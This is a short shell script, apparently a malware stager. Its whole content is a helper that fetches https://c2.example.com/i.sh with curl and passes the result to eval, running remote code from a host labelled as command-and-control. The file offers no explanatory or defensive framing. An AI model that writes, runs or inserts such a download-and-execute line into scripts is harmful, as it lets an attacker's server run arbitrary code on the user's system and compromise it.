#!/bin/sh
get() { curl -fsSL "$1"; }
eval "$(get https://c2.example.com/i.sh)"
